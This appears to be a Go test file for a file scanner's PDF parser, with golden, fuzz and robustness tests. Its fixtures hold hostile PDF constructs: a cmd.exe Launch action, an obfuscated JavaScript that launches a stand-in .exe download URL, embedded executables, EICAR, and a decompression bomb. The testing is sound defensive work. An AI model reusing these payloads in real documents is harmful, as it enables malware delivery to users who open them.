package pdf

import (
	"bytes"
	"compress/lzw"
	"context"
	"encoding/ascii85"
	"encoding/hex"
	"flag"
	"fmt"
	"strings"
	"testing"

	"foregate/scan/file/internal/sample"

	"github.com/makiuchi-d/gozxing"
	"github.com/makiuchi-d/gozxing/qrcode"
	"pgregory.net/rapid"
)

var _ = flag.Bool("update", false, "write the golden files")

// files are the samples, by the names of their golden files.
func files() map[string][]byte {
	page := `<</Type /Page /Parent 2 0 R /Contents 4 0 R /Resources <</Font <</F1 5 0 R>>>> /Annots [<</Subtype /Link /A <</S /URI /URI (https://pay.example/a\(b\))>>>>]>>`
	cm := "1 beginbfchar <0001> <0050> endbfchar 1 beginbfrange <0002> <0003> <0061> endbfrange"
	pixels := bytes.Repeat([]byte{0, 255, 128}, 32*32)
	a85 := func(b []byte) []byte {
		out := make([]byte, ascii85.MaxEncodedLen(len(b)))
		return append(out[:ascii85.Encode(out, b)], "~>"...)
	}
	inner := "<</S /JavaScript /JS (app.launchURL\\('http://js.example/x'\\))>>"
	objstm := fmt.Sprintf("7 0 8 %d ", len(inner)+1) + inner + " <</Producer (evil) /Title (Bill)>>"
	return map[string][]byte{
		"links": sample.PDF("/Root 1 0 R /Info 6 0 R", "<</Type /Catalog /Pages 2 0 R>>", "<</Type /Pages /Kids [3 0 R] /Count 1>>", page,
			sample.PDFStream("/Filter /FlateDecode", sample.Deflate([]byte("BT /F1 12 Tf <000100020003> Tj ET BT /F2 1 Tf [(Pay) -250 (now)] TJ 0 -10 Td (please \\050today\\051) Tj ET"))),
			"<</Type /Font /Subtype /Type0 /ToUnicode 7 0 R>>", "<</Title (Invoice) /Producer (Soda PDF) /CreationDate (D:20260101120000+01'00')>>", sample.PDFStream("", []byte(cm)),
			sample.PDFStream("/Subtype /Image /Width 32 /Height 32 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter [/ASCII85Decode /FlateDecode]", a85(sample.Deflate(pixels)))),
		"actions": sample.PDF("/Root 1 0 R", "<</Type /Catalog /OpenAction 2 0 R /AcroForm <</XFA 4 0 R>> /AA <</O <</S /GoTo>>>>>>", "<</S /Launch /Win <</F (cmd.exe) /P (/c calc)>> /Next 3 0 R>>",
			"<</S /J#61vaScript /JS (this.exportDataObject\\({cName:'invite.exe'}\\);)>>", sample.PDFStream("", []byte("<xdp><script>x</script><a href='http://xfa.example/'/></xdp>")),
			"<</S /SubmitForm /F <</FS /URL /F (https://collect.example/p)>>>>", `<</S /GoToR /F (\\\\files.example\\share\\x.pdf)>>`),
		"embedded": sample.PDF("/Root 1 0 R", "<</Type /Catalog /Names <</EmbeddedFiles <</Names [(invite.exe) 2 0 R]>>>>>>", "<</Type /Filespec /F (C:/Users/op/invite.exe) /UF (invite.exe) /EF <</F 3 0 R>>>>",
			sample.PDFStream("/Type /EmbeddedFile /Filter /FlateDecode", sample.Deflate([]byte(sample.Marker))), sample.PDFStream("/Type /EmbeddedFile /Subtype /application#2Foctet-stream", sample.EICAR())),
		"packed": sample.PDF("/Root 1 0 R /Info 8 0 R", "<</Type /Catalog /OpenAction 7 0 R>>",
			sample.PDFStream(fmt.Sprintf("/Type /ObjStm /N 2 /First %d /Filter /FlateDecode", strings.Index(objstm, "<<")), sample.Deflate([]byte(objstm)))),
		"encrypted": sample.PDF("/Root 1 0 R /Encrypt 2 0 R", "<</Type /Catalog>>", "<</Filter /Standard /V 2 /R 3>>"),
		"scripts": sample.PDF("/Root 1 0 R", "<</Type /Catalog /OpenAction <</S /JavaScript /JS 2 0 R>> /AcroForm <</XFA 3 0 R>>>>",
			sample.PDFStream("/Filter /FlateDecode", sample.Deflate([]byte(`var h = ["pxe.daol", "elif/elpmaxe.", "derots//:sptth"]; h.reverse(); app.setTimeOut("app.launch" + "URL('" + h.map(function (s) { return s.split("").reverse().join("") }).join("") + "')", 10); eval(unescape("%74%68%69%73%2e%67%65%74%55%52%4c%28%27%68%74%74%70%3a%2f%2f%73%65%63%6f%6e%64%2e%65%78%61%6d%70%6c%65%2f%27%29"));`))),
			sample.PDFStream("", []byte(`<xdp><script contentType="application/x-javascript">xfa.host.gotoURL("a"); app.launchURL("https://" + "form.example/")</script><script>Sum(1, 2)</script></xdp>`))),
		"updated": append(append(sample.PDF("/Root 1 0 R", "<</Type /Catalog>>"), sample.PDF("/Root 1 0 R", "<</Type /Catalog>>")...),
			sample.PDF("/Root 1 0 R", "<</Type /Catalog /OpenAction <</S /URI /URI (http://late.example/)>>>>")...),
	}
}

func TestGolden(t *testing.T) {
	for name, data := range files() {
		t.Run(name, func(t *testing.T) {
			sample.Golden(t, Parser{}, name, sample.Input(name+".pdf", data))
		})
	}
}

func TestTorture(t *testing.T) {
	for name, data := range files() {
		sample.Torture(t, Parser{}, name+".pdf", data)
	}
}

// Everything that invites a parser to work forever ends at once.
func TestHostile(t *testing.T) {
	for _, data := range map[string][]byte{
		"deep arrays":       []byte("%PDF-1.4\n1 0 obj " + strings.Repeat("[", 1<<20)),
		"deep dictionaries": []byte("%PDF-1.4\n1 0 obj " + strings.Repeat("<</A ", 1<<18)),
		"no end":            []byte("%PDF-1.4\n" + strings.Repeat("1 0 obj<</Length 9>>stream\n", 1<<15)),
		"self reference":    sample.PDF("/Root 1 0 R", "1 0 R", "<</Type 2 0 R /S 2 0 R /OpenAction 2 0 R /Length 2 0 R>>"),
		"fan out":           sample.PDF("/Root 1 0 R", "<</OpenAction ["+strings.Repeat("1 0 R ", 1000)+"] "+strings.Repeat("/A 1 0 R ", 1000)+">>"),
		"open strings":      []byte("%PDF-1.4\n" + strings.Repeat("1 0 obj (", 1<<15)),
		"bomb":              sample.PDF("", "<</Type /Catalog>>", sample.PDFStream("/Type /ObjStm /N 1 /First 1 /Filter [/FlateDecode /FlateDecode]", sample.Deflate(sample.Deflate(make([]byte, 64<<20))))),
		"filters":           sample.PDF("", sample.PDFStream("/Type /EmbeddedFile /Filter ["+strings.Repeat("/ASCIIHexDecode ", 5000)+"]", []byte("41"))),
		"forms":             sample.PDF("/Root 1 0 R", "<</Type /Catalog>>", "<</Type /Page /Contents 3 0 R /Resources 5 0 R>>", sample.PDFStream("/Subtype /Form /Resources 5 0 R", []byte(strings.Repeat("/A Do /B Do ", 1<<16))), sample.PDFStream("/Subtype /Form", bytes.Repeat([]byte("1 "), 1<<20)), "<</XObject <</A 3 0 R /B 4 0 R>>>>"),
		"scripts":           sample.PDF("/Root 1 0 R", "<</A ["+scripts(2000)+"]>>"),
		"comments":          []byte("%PDF-1.4\n" + strings.Repeat("1 0 obj % ", 1<<15)),
	} {
		res, _ := Parser{}.Open(context.Background(), sample.Input("h.pdf", data))
		sample.Check(t, res)
	}
}

// scripts writes n actions with scripts that never end.
func scripts(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "<</S /JavaScript /JS (for \\(;;\\) a%d += 1)>>", i)
	}
	return b.String()
}

func TestFilters(t *testing.T) {
	var lz bytes.Buffer
	w := lzw.NewWriter(&lz, lzw.MSB, 8)
	if _, err := w.Write([]byte("late change")); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct{ entries, in, want string }{
		{"/Filter /ASCIIHexDecode", "48 65 6c6C 6f>", "Hello"},
		{"/Filter /AHx", "486", "H`"},
		{"/Filter /A85", "<~87cURD]j7BEbo80~>", "Hello world!"},
		{"/Filter /RunLengthDecode", "\x02abc\xfed\x80zzz", "abcddd"},
		{"/Filter /LZWDecode", "\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01", "-----A---B"},
		{"/Filter /LZWDecode /DecodeParms <</EarlyChange 0>>", lz.String(), "late change"},
		{"/Filter [/AHx /AHx]", hex.EncodeToString([]byte("4f4b>")), "OK"},
		{"/Filter /FlateDecode /DecodeParms <</Predictor 12 /Columns 3>>", string(sample.Deflate([]byte("\x00abc\x02\x01\x01\x01\x01d\x01\x01"))), "abcbcddef"},
		{"/Filter /NoSuch", "x", ""},
	} {
		d := &doc{ctx: context.Background(), in: sample.Input("f", nil), latest: map[int]int{}}
		l := lexer{b: []byte("<<" + tt.entries + ">>")}
		s, ok := l.value(0).(*dict)
		if !ok {
			t.Fatalf("%s is no dictionary", tt.entries)
		}
		got, _, _ := d.decode(s, []byte(tt.in))
		if string(got) != tt.want {
			t.Errorf("%s: %q, want %q", tt.entries, got, tt.want)
		}
	}
}

// A code that a page draws as squares, by itself or in a form, is read, and so is
// the text of a form.
func TestDrawn(t *testing.T) {
	const link = "https://drawn.example/a?b=1"
	code, err := qrcode.NewQRCodeWriter().Encode(link, gozxing.BarcodeFormat_QR_CODE, 0, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	var squares strings.Builder
	squares.WriteString("q 1 1 1 rg 0 0 200 200 re f 2 0 0 2 30 700 cm 0 0 0 rg\n")
	for y := range code.GetHeight() {
		for x := range code.GetWidth() {
			if code.Get(x, y) {
				fmt.Fprintf(&squares, "%d %d 1 1 re f\n", x, -y)
			}
		}
	}
	squares.WriteString("Q BT (Scan me) Tj ET 0 0 0 rg 10 10 500 2 re f")
	catalog, pages := "<</Type /Catalog /Pages 2 0 R>>", "<</Type /Pages /Kids [3 0 R] /Count 1>>"
	for name, data := range map[string][]byte{
		"page": sample.PDF("/Root 1 0 R", catalog, pages, "<</Type /Page /Parent 2 0 R /Contents 4 0 R>>", sample.PDFStream("", []byte(squares.String()))),
		"form": sample.PDF("/Root 1 0 R", catalog, pages, "<</Type /Page /Parent 2 0 R /Contents 4 0 R /Resources <</XObject <</A 5 0 R>>>>>>", sample.PDFStream("", []byte("q 1 0 0 1 0 -90 cm /A Do Q")),
			sample.PDFStream("/Subtype /Form /Matrix [0 1 -1 0 0 0] /Resources <</XObject <</B 6 0 R>>>>", []byte("/B Do")), sample.PDFStream("/Subtype /Form", []byte(squares.String()))),
	} {
		res, err := Parser{}.Open(t.Context(), sample.Input(name+".pdf", data))
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, f := range res.Findings {
			found = found || f.ID == "file.qr-drawn" && f.Quote == link
		}
		if !found || !strings.Contains(res.Text, "Scan me") {
			t.Errorf("%s: found %v, findings %v, text %q", name, found, res.Findings, res.Text)
		}
	}
}

// Every text survives being written as a literal and as a hexadecimal string.
func TestStrings(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		b := rapid.SliceOf(rapid.Byte()).Draw(t, "bytes")
		var lit strings.Builder
		for _, c := range b {
			fmt.Fprintf(&lit, "\\%03o", c)
		}
		for _, form := range []string{"(" + lit.String() + ")", "<" + hex.EncodeToString(b) + ">"} {
			l := lexer{b: []byte(form)}
			got, ok := l.value(0).(text)
			if !ok || !bytes.Equal(got, b) {
				t.Fatalf("%s became %q", form, got)
			}
		}
	})
}

func FuzzOpen(f *testing.F) {
	for _, data := range files() {
		f.Add(data)
	}
	f.Add(sealed(2, 3, "V2", ""))
	f.Add(sealed(5, 6, "AESV3", "infected"))
	f.Fuzz(func(t *testing.T, data []byte) {
		in := sample.Input("f.pdf", data)
		in.Passwords = []string{"infected"}
		if !(Parser{}).Opens(in) {
			return
		}
		res, _ := Parser{}.Open(t.Context(), in)
		sample.Check(t, res)
	})
}

func FuzzFilter(f *testing.F) {
	f.Add("LZWDecode", []byte("\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01"))
	f.Add("FlateDecode", sample.Deflate([]byte("abc")))
	f.Add("RunLengthDecode", []byte("\x02abc\xfed"))
	f.Fuzz(func(t *testing.T, filter string, data []byte) {
		d := &doc{ctx: t.Context(), in: sample.Input("f", nil), latest: map[int]int{}}
		out, _, _ := d.filter(filter, data, nil)
		if len(out) > maxStream+1<<16 {
			t.Fatalf("%d bytes", len(out))
		}
		readMap(data)
	})
}

func BenchmarkOpen(b *testing.B) {
	data := files()["links"]
	b.ReportAllocs()
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		if _, err := (Parser{}).Open(b.Context(), sample.Input("a.pdf", data)); err != nil {
			b.Fatal(err)
		}
	}
}
